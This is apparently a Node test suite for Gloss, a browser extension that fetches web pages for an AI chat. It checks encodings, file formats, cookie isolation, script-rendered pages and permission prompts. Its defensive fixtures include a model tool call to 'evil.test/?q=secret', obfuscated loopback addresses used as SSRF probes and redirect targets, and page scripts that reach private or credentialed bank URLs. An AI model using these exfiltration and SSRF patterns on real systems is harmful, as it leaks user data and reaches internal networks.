// Web pages that an answer needs: what is fetched and how, what is refused, and what the user is
// asked. The sites have public names that lead to loopback: for the product they are public, and it
// knows nothing of tests.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { crc32 } from 'node:zlib';
import { launch, PATIENCE } from './lib/browser.mjs';
import { Chat, sure } from './lib/chat.mjs';
import { ChatServer } from './lib/chat_server.mjs';
import { Options } from './lib/options.mjs';
import { connect } from './lib/profile.mjs';
import { fetches, html, page, Sites } from './lib/sites.mjs';
import { theatre, turn } from './lib/stage.mjs';

let sites, server, gloss;
const tabs = [];

before(async () => {
  [sites, server, gloss] = await Promise.all([
    Sites.start(),
    ChatServer.start(),
    launch({ hosts: ['http://127.0.0.1/*', 'http://127.0.0.2/*', 'http://*.test/*'], names: '*.test' }),
  ]);
  await connect(gloss, { baseUrl: server.baseUrl });
});
after(async () => {
  await gloss?.close();
  await server?.close();
  sites?.close();
});
beforeEach(() => {
  server.reset();
  sites.reset();
});
afterEach(async () => {
  for (const tab of tabs.splice(0)) await tab.close();
});

/** A conversation beside a page that links to `links`. */
async function beside(links = [], of = gloss) {
  const anchors = links.map((link) => `<p>More of it stands <a href="${link}">there</a>, they say.</p>`).join('');
  sites.paths['/start'] = html(`<html lang=en><title>Start</title><main><h1>Start</h1><p>A page about tides, and where to read on.</p>${anchors}</main>`);
  const tab = await of.open(sites.url('harbour.test', '/start'));
  tabs.push(tab);
  return Chat.over(of, tab);
}

/** A zip archive of these texts, not compressed. */
function archive(files) {
  const [parts, directory] = [[], []];
  let at = 0;
  for (const [name, text] of Object.entries(files)) {
    const [called, body] = [Buffer.from(name), Buffer.from(text)];
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt32LE(crc32(body), 10);
    about.writeUInt32LE(body.length, 14);
    about.writeUInt32LE(body.length, 18);
    about.writeUInt16LE(called.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    parts.push(Buffer.from('PK\x03\x04'), about, called, body);
    directory.push(Buffer.from('PK\x01\x02'), Buffer.from([20, 0]), about, place, called);
    at += 30 + called.length + body.length;
  }
  const end = Buffer.alloc(18);
  const count = Object.keys(files).length;
  end.writeUInt16LE(count, 4);
  end.writeUInt16LE(count, 6);
  end.writeUInt32LE(Buffer.concat(directory).length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, ...directory, Buffer.from('PK\x05\x06'), end]);
}

/** How many tabs show this. */
async function tabsAt(of, host, path) {
  const { targetInfos } = await of.cdp.send('Target.getTargets');
  return targetInfos.filter(({ type, url }) => type === 'page' && url === sites.url(host, path)).length;
}

/** The results that a run receives for this call. */
async function given(question, fetching, links = [], of = gloss) {
  server.script(fetching, sure('So it is.'));
  const chat = await beside(links, of);
  // A link of the page is no permission: the user writes the addresses.
  await chat.ask([question, ...links].join(' '));
  await chat.settled('So it is.');
  const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
  return { chat, content };
}

describe('what is fetched', () => {
  test('a link of the page is read for the question, without cookies or a referrer', async () => {
    const url = sites.url('tides.test', '/brest');
    sites.paths['/brest'] = page('Brest', 'The spring tide at Brest is 7.5 metres high.');
    const { chat, content } = await given('How high is it at Brest?', fetches([url], { query: 'height of the spring tide', detail: 'brief' }), [url]);
    assert.match(content, /^<tool_result [^]*<\/tool_result>$/);
    assert.match(content, /w1a1\.p1/);
    assert.match(content, /7\.5 metres/);
    const [{ headers, host }] = sites.seen.filter((request) => request.url === '/brest');
    assert.equal(host, `tides.test:${sites.port}`);
    for (const name of ['cookie', 'referer', 'origin', 'authorization']) assert.equal(headers[name], undefined, name);
    await chat.press('Steps');
    await chat.says(`Pages read: 1 of 1 (${new URL(sites.url('tides.test', '/')).host})`);
  });

  test('what GBK and Shift_JIS say is read, wherever they are declared', async () => {
    const [gbk, sjis] = [sites.url('a.test', '/gbk'), sites.url('b.test', '/sjis')];
    sites.paths['/gbk'] = html(Buffer.from('3c703eb3b1cfab3c2f703e', 'hex'), 'text/html; charset=gbk');
    sites.paths['/sjis'] = html(Buffer.concat([Buffer.from('<meta charset="shift_jis"><p>'), Buffer.from('92aa82cc969e', 'hex')]), 'text/html');
    const { content } = await given(`What do ${gbk} and ${sjis} say?`, fetches([gbk, sjis]));
    assert.match(content, /潮汐/);
    assert.match(content, /潮の満/);
  });

  test('three at once, one of which is not there: the others are given, and it is said', async () => {
    const urls = ['/one', '/none', '/two'].map((path) => sites.url('tides.test', path));
    sites.paths['/one'] = page('One', 'The first says seven.');
    sites.paths['/two'] = page('Two', 'The second says eight.');
    const { chat, content } = await given(`Compare ${urls.join(' ')}`, fetches([...urls, 'https://four.test/']));
    assert.match(content, /says seven[^]*says eight/);
    assert.match(content, /the server returned 404/);
    assert.match(content, /"fetchedCount": ?2/);
    assert.match(content, /"failedCount": ?1/);
    assert.match(content, /"notRead"[^\]]*four\.test/);
    await chat.press('Steps');
    await chat.says('Pages read: 2 of 3');
  });

  test('what it says is cited: the mark names the page, and its link opens it where the words stand', async () => {
    const url = sites.url('tides.test', '/cited');
    sites.paths['/cited'] = page('Brest', 'The spring tide at Brest is 7.5 metres high.');
    const answer = 'It is 7.5 metres high [[w1a1.p1]].';
    server.script(fetches([url]), sure(answer));
    const chat = await beside();
    await chat.ask(`How high is it by ${url} ?`);
    await chat.settled('It is 7.5 metres high');
    await chat.press('Source 1, passage found');
    const { words, href } = await chat.page.$eval('.pop:popover-open', (pop) => ({ words: pop.innerText, href: pop.querySelector('a').href }));
    assert.match(words, /Brest/);
    assert.match(words, /tides\.test/);
    assert.match(words, /The spring tide at Brest is 7\.5 metres high\./);
    assert.equal(href, `${url}#:~:text=The%20spring%20tide%20at%20Brest%20is%207.5%20metres%20high.`);
  });

  test('a server that is busy is asked again', async () => {
    const url = sites.url('tides.test', '/busy');
    sites.paths['/busy'] = (count) => (count === 1 ? { status: 429, headers: { 'retry-after': '1' } } : page('Busy', 'It was worth the wait.'));
    const { content } = await given(`What does ${url} say?`, fetches([url]));
    assert.match(content, /worth the wait/);
    assert.equal(sites.count('/busy'), 2);
  });

  test('a page that is too large is left', async () => {
    const url = sites.url('tides.test', '/large');
    sites.paths['/large'] = html(`<p>${'The sea rises. '.repeat(500_000)}</p>`);
    const { content } = await given(`What does ${url} say?`, fetches([url]));
    assert.match(content, /larger than 5 MB/);
  });

  test('Markdown, JSON and CSV are read', async () => {
    const urls = ['/a.md', '/b.json', '/c.csv'].map((path) => sites.url('tides.test', path));
    sites.paths['/a.md'] = html('# Tides\n\nThe neap tide is weak.', 'text/plain');
    sites.paths['/b.json'] = html('{"port":"Dover","height":6.8}', 'application/json');
    sites.paths['/c.csv'] = html('port,height\nBrest,7.5\n', 'text/csv');
    const { content } = await given(`What do ${urls.join(' ')} say?`, fetches(urls, { detail: 'full' }));
    for (const words of [/neap tide is weak/, /Dover/, /port: Brest; height: 7\.5/]) assert.match(content, words);
  });

  test('a PDF, a Word file and a feed are read', async () => {
    const [pdf, docx, feed] = [sites.url('a.test', '/tides.pdf'), sites.url('b.test', '/ports.docx'), sites.url('c.test', '/feed')];
    const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
    sites.paths['/tides.pdf'] = html(await readFile(new URL('pages/tides.pdf', import.meta.url)), 'application/pdf');
    sites.paths['/ports.docx'] = html(archive({
      'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>The port of Brest silts up by a metre a year.</w:t></w:r></w:p></w:body></w:document>',
    }), word);
    sites.paths['/feed'] = html('<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Harbour news</title><entry><title>The lock is open again</title><summary>Since Monday ships pass.</summary></entry></feed>', 'application/atom+xml');
    const { content } = await given(`What do ${pdf} ${docx} ${feed} say?`, fetches([pdf, docx, feed]));
    assert.match(content, /spring tide at Brest is seven metres/);
    assert.match(content, /silts up by a metre a year/);
    assert.match(content, /lock is open again[^]*ships pass/);
  });

  test('a worker that is killed while it fetches fetches again, and what was read is kept', async () => {
    const [held, read] = [sites.url('tides.test', '/held'), sites.url('tides.test', '/read')];
    sites.paths['/read'] = page('Read', 'This was read before.');
    sites.paths['/held'] = (count) => (count === 1 ? 'hold' : page('Held', 'It came in the end.'));
    server.script(fetches([read, held]), sure('So it is.'));
    const chat = await beside();
    await chat.ask(`What do ${read} and ${held} say?`);
    await sites.reached('/held');
    await gloss.killWorker();
    await chat.settled('So it is.');
    const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
    assert.match(content, /read before[^]*came in the end/);
    assert.equal(sites.count('/held'), 2);
  });
});

describe('what its scripts say', () => {
  let wide;
  before(async () => {
    wide = await launch({ hosts: ['<all_urls>'], names: '*.test' });
    await connect(wide, { baseUrl: server.baseUrl });
  });
  after(() => wide?.close());

  test('a page that says nothing without its scripts is read in a tab beside, which is closed and knows nobody', async () => {
    const url = sites.url('app.test', '/app');
    const late = 'The tide table of the harbour stands here once its script has run, and no sooner than that. '.repeat(4);
    const shell = (script) => html(`<html lang=en><title>Table</title><div id=root></div><img src=/tide.png><script>${script}</script>`);
    const draws = `setTimeout(async () => {
      await fetch('/data').catch(() => {});
      await fetch('http://127.0.0.2:${sites.port}/secret', { mode: 'no-cors' }).catch(() => {});
      document.getElementById('root').innerHTML = '<main><p>${late}</p></main>';
    }, 500)`;
    sites.paths['/app'] = { ...shell(draws), headers: { 'content-type': 'text/html', 'set-cookie': 'kept=1' } };
    sites.paths['/data'] = html('[]', 'application/json');
    sites.paths['/sign-in'] = { ...page('Signed in', 'The person is signed in.'), headers: { 'content-type': 'text/html', 'set-cookie': 'who=me; path=/' } };
    const own = await wide.open(sites.url('app.test', '/sign-in'));
    tabs.push(own);
    const { content } = await given(`What does ${url} say?`, fetches([url]), [], wide);
    assert.match(content, /tide table of the harbour/);
    const asked = sites.seen.filter(({ url: path }) => ['/app', '/data', '/tide.png'].includes(path));
    assert.deepEqual(asked.map(({ url: path }) => path), ['/app', '/app', '/data']);
    for (const { headers } of asked) assert.equal(headers.cookie, undefined);
    assert.equal(sites.count('/secret'), 0, 'nothing private is reached');
    assert.equal(await own.evaluate('document.cookie'), 'who=me', 'nothing is kept of it');
    assert.equal(await tabsAt(wide, 'app.test', '/app'), 0);
  });

  test('three such pages are shown side by side, and one that is closed takes no other’s rules along', async () => {
    const late = (name) => `The tide table of ${name} stands here once its script has run, and no sooner than that. `.repeat(4);
    // Each draws once the tab before it is closed.
    const urls = [['one'], ['two', 'one'], ['three', 'two']].map(([name, before]) => {
      sites.paths[`/gate-${name}`] = { body: async (response) => {
        while (before && await tabsAt(wide, 'app.test', `/side-${before}`) > 0) await delay(50);
        response.end('[]');
      } };
      sites.paths[`/side-${name}`] = {
        ...html(`<html lang=en><title>${name}</title><div id=root></div><script>(async () => {
          await fetch('/gate-${name}').catch(() => {});
          await fetch('/side-data').catch(() => {});
          await fetch('http://127.0.0.2:${sites.port}/secret', { mode: 'no-cors' }).catch(() => {});
          document.getElementById('root').innerHTML = '<main><p>${late(name)}</p></main>';
        })()</script>`),
        headers: { 'content-type': 'text/html', 'set-cookie': 'kept=1' },
      };
      return sites.url('app.test', `/side-${name}`);
    });
    sites.paths['/side-data'] = html('[]', 'application/json');
    const { content } = await given(`What do ${urls.join(' and ')} say?`, fetches(urls), [], wide);
    for (const name of ['one', 'two', 'three']) assert.match(content, new RegExp(`tide table of ${name}`));
    const asked = sites.seen.filter(({ url: path }) => path.startsWith('/side-'));
    assert.equal(asked.length, 9);
    for (const { headers } of asked) assert.equal(headers.cookie?.includes('kept'), undefined);
    assert.equal(sites.count('/secret'), 0, 'nothing private is reached');
    for (const name of ['one', 'two', 'three']) assert.equal(await tabsAt(wide, 'app.test', `/side-${name}`), 0);
  });

  test('a page whose scripts lead to another site is not followed there', async () => {
    const away = sites.url('app.test', '/away');
    sites.paths['/away'] = html(`<div></div><script>location = '${sites.url('bank.test', '/account')}'</script>`);
    sites.paths['/account'] = page('Account', 'The account of the person. '.repeat(20));
    const { content } = await given(`What does ${away} say?`, fetches([away]), [], wide);
    assert.doesNotMatch(content, /account of the person/);
    assert.match(content, /without scripts|no text|nothing of it was used/);
    assert.equal(sites.count('/account'), 0);
    assert.equal(await tabsAt(wide, 'app.test', '/away'), 0);
  });

  test('the right to its site is enough: the page is kept to that, and knows nobody', async () => {
    const url = sites.url('app.test', '/near');
    const late = 'The tide table of the quay stands here once its script has run, and no sooner than that. '.repeat(4);
    sites.paths['/near'] = {
      ...html(`<html lang=en><title>Quay</title><div id=root></div><script>setTimeout(async () => {
        await fetch('/near-data').catch(() => {});
        await fetch('http://127.0.0.2:${sites.port}/secret', { mode: 'no-cors' }).catch(() => {});
        await fetch('${sites.url('bank.test', '/account')}', { mode: 'no-cors', credentials: 'include' }).catch(() => {});
        document.getElementById('root').innerHTML = '<main><p>${late}</p></main>';
      }, 500)</script>`),
      headers: { 'content-type': 'text/html', 'set-cookie': 'kept=1' },
    };
    sites.paths['/near-data'] = html('[]', 'application/json');
    sites.paths['/account'] = page('Account', 'The account of the person.');
    const before = sites.count('/account') + sites.count('/secret');
    const { content } = await given(`What does ${url} say?`, fetches([url]));
    assert.match(content, /tide table of the quay/);
    const asked = sites.seen.filter(({ url: path }) => ['/near', '/near-data'].includes(path));
    assert.deepEqual(asked.map(({ url: path }) => path), ['/near', '/near', '/near-data']);
    for (const { headers } of asked) assert.equal(headers.cookie, undefined);
    assert.equal(sites.count('/account') + sites.count('/secret'), before, 'nothing beside its site is reached');
  });
});

describe('what is refused', () => {
  test('an address that nobody wrote is not fetched once the page was read, unless it is approved', async () => {
    server.script(fetches([sites.url('evil.test', '/?q=secret')]), sure('So it is.'));
    const chat = await beside();
    await chat.ask('What is it about?');
    await chat.panel.control('dialog', 'Approve tool call').setTimeout(PATIENCE).wait();
    await chat.page.keyboard.press('Escape');
    await chat.settled('So it is.');
    const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
    assert.match(content, /rejected/);
    assert.equal(sites.count('/?q=secret'), 0);
  });

  test('private addresses are not fetched, however they are written', async () => {
    const urls = [sites.url('127.0.0.2', '/secret'), sites.url('0x7f.2', '/secret'), sites.url('[::ffff:127.0.0.2]', '/secret')];
    sites.paths['/secret'] = page('Router', 'The secret of the router.');
    const { content } = await given(`What do ${urls.join(' ')} say?`, fetches(urls));
    assert.equal(content.match(/is a private address/g)?.length, 3, content);
    assert.equal(sites.count('/secret'), 0);
  });

  test('a redirect to a private address is stopped by the browser, and a server of one’s own still answers', async () => {
    const url = sites.url('tides.test', '/on');
    sites.paths['/on'] = { status: 302, headers: { location: sites.url('0x7f.2', '/secret') } };
    sites.paths['/secret'] = page('Router', 'The secret of the router.');
    const { content } = await given(`What does ${url} say?`, fetches([url]));
    assert.match(content, /no response|nothing of it was used/);
    assert.doesNotMatch(content, /secret of the router/);
    assert.equal(sites.count('/on'), 2, 'once more, as what cannot be reached is');
    assert.equal(sites.count('/secret'), 0, 'the browser did not go there');
    // Its list of models is a GET to loopback, which the rules would stop.
    const asked = server.others.length;
    const options = await Options.of(gloss);
    tabs.push(options.page);
    await options.connect({ name: 'Another', url: server.baseUrl, key: 'key-1', model: 'scripted-1' });
    await options.press('Test connection');
    await options.says('Connected.');
    assert.ok(server.others.length > asked);
  });

  test('a redirect to a private address that Gloss may not read is stopped too', async (t) => {
    const other = await launch({ hosts: ['http://127.0.0.1/*', 'http://*.test/*'], names: '*.test' });
    t.after(() => other.close());
    await connect(other, { baseUrl: server.baseUrl });
    const urls = ['127.0.0.2', '0x7f.2', '[::ffff:127.0.0.2]'].map((host, n) => {
      sites.paths[`/on${n}`] = { status: 302, headers: { location: sites.url(host, '/secret') } };
      return sites.url('tides.test', `/on${n}`);
    });
    sites.paths['/secret'] = page('Router', 'The secret of the router.');
    server.script(fetches(urls), sure('So it is.'));
    const chat = await beside([], other);
    await chat.ask(`What do ${urls.join(' ')} say?`);
    await chat.settled('So it is.');
    assert.doesNotMatch(server.requests[1].body, /secret of the router/);
    assert.ok(sites.count('/on0') > 0);
    assert.equal(sites.count('/secret'), 0, 'the browser did not go there');
  });

  test('a redirect within the site is followed', async () => {
    const url = sites.url('tides.test', '/moved');
    sites.paths['/moved'] = { status: 301, headers: { location: '/there' } };
    sites.paths['/there'] = page('There', 'It stands here now.');
    const { content } = await given(`What does ${url} say?`, fetches([url]));
    assert.match(content, /stands here now/);
    assert.match(content, /tides\.test:\d+\/there/);
  });
});

describe('what the person is asked', () => {
  test('a site that Gloss may not read is asked for, and refused it goes on without it', async (t) => {
    const other = await launch({ hosts: ['http://127.0.0.1/*', 'http://allowed.test/*'], names: '*.test' });
    t.after(() => other.close());
    await connect(other, { baseUrl: server.baseUrl });
    const [allowed, not] = [sites.url('allowed.test', '/a'), sites.url('tides.test', '/b')];
    sites.paths['/a'] = page('A', 'This one may be read.');
    sites.paths['/b'] = page('B', 'This one may not.');
    server.script(fetches([allowed, not]), sure('So it is.'));
    const chat = await beside([], other);
    await chat.ask(`What do ${allowed} and ${not} say?`);
    await chat.says('Permission needed');
    await chat.says('tides.test');
    assert.equal(sites.count('/b'), 0, 'it is not fetched before');
    // The result is recorded, whatever dies.
    await other.killWorker();
    await chat.press('Not now');
    await chat.settled('So it is.');
    const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
    assert.match(content, /This one may be read/);
    assert.match(content, /the user has not allowed Gloss to read/);
    assert.equal(sites.count('/b'), 0);
    await chat.says('went on without');
  });

  test('the card names the sites once each, asks Chrome for all of them in the click, and says so', async (t) => {
    const hall = await theatre();
    t.after(() => hall.close());
    const origins = ['http://tides.example', 'https://tides.example', 'https://news.example'];
    const waits = turn({ status: 'awaiting_user', ended_at_ms: null, answer: null, wait: { id: 9, need: { pages: { origins } } } });
    for (const scheme of ['light', 'dark']) {
      const stage = await hall.stage({ scheme });
      await stage.show({ turns: [waits] });
      await stage.panel.control('dialog', 'Permission needed').wait();
      const words = await stage.page.$eval('[role=dialog]', (card) => card.innerText.replace(/\s+/g, ' '));
      assert.match(words, /Read pages of tides\.example, news\.example/);
      if (process.env.GLOSS_SHOTS) await stage.page.screenshot({ path: `${process.env.GLOSS_SHOTS}/fetch-${scheme}.png` });
      await stage.chrome();
      await stage.panel.press('Allow these sites');
      await stage.page.waitForFunction(() => globalThis.worker.asked.some((command) => command.permit));
      assert.deepEqual((await stage.chrome()).filter((call) => call.request), [{ request: { origins: origins.map((origin) => `${origin}/*`) } }]);
      const [{ permit }] = (await stage.asked()).filter((command) => command.permit);
      assert.deepEqual(permit, { run: 'r1', wait: 9, verdict: 'granted' });
      assert.deepEqual(stage.troubles, []);
      await stage.show({ turns: [turn({ notices: [{ permission: { at_ms: 1, need: { pages: { origins } }, verdict: 'granted' } }], answer: null })] });
      const log = await stage.page.$eval('[role=log]', (log) => log.innerText);
      assert.match(log, /You allowed tides\.example, news\.example at/);
      await stage.close?.();
    }
  });
});
